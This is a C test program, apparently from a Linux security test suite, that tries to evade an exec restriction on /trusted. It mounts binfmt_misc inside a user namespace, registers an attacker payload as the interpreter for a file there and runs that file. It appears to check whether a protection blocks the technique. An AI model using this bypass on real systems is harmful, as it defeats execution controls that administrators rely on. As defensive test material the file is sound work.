// SPDX-License-Identifier: GPL-2.0
/* binfmt_misc: register the attacker's program as the interpreter of a
 * file in /trusted, in a binfmt_misc instance of a user namespace of ours
 * (allowed since 6.7 where binfmt_misc is built), and run the file. */
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

int main(void)
{
	char out[512], copy[64], rule[160], file[64], mnt[64], reg[96];
	char *argv[] = { file, NULL };

	attack_name = "binfmt_misc";
	snprintf(copy, sizeof(copy), HOME "/bm-%d", getpid());
	snprintf(file, sizeof(file), "/trusted/tmp/f-%d.kmlx", getpid());
	snprintf(mnt, sizeof(mnt), HOME "/bm-mnt-%d", getpid());
	snprintf(reg, sizeof(reg), "%s/register", mnt);
	if (copy_file(PAYLOAD, copy, 0755) || copy_file(PAYLOAD, file, 0755) || mkdir(mnt, 0755))
		broken("set up the files: %s", strerror(errno));
	if (mount("binfmt_misc", mnt, "binfmt_misc", 0, NULL) == 0)
		goto mounted;
	if (enter_userns(CLONE_NEWNS))
		refused(errno, "mount binfmt_misc: not allowed, and no user namespace");
	if (mount("binfmt_misc", mnt, "binfmt_misc", 0, NULL)) {
		if (errno == ENODEV)
			blocked("binfmt_misc is not in this kernel (mount: ENODEV)");
		refused(errno, "mount binfmt_misc in a user namespace");
	}
mounted:
	snprintf(rule, sizeof(rule), ":kmlx:E::kmlx::%s:", copy);
	if (write_str(reg, rule))
		refused(errno, "register a binfmt_misc rule");
	judge_exec("the attacker's binfmt_misc interpreter of a file in /trusted",
		   run_capture(file, argv, NULL, out, sizeof(out)), out);
}
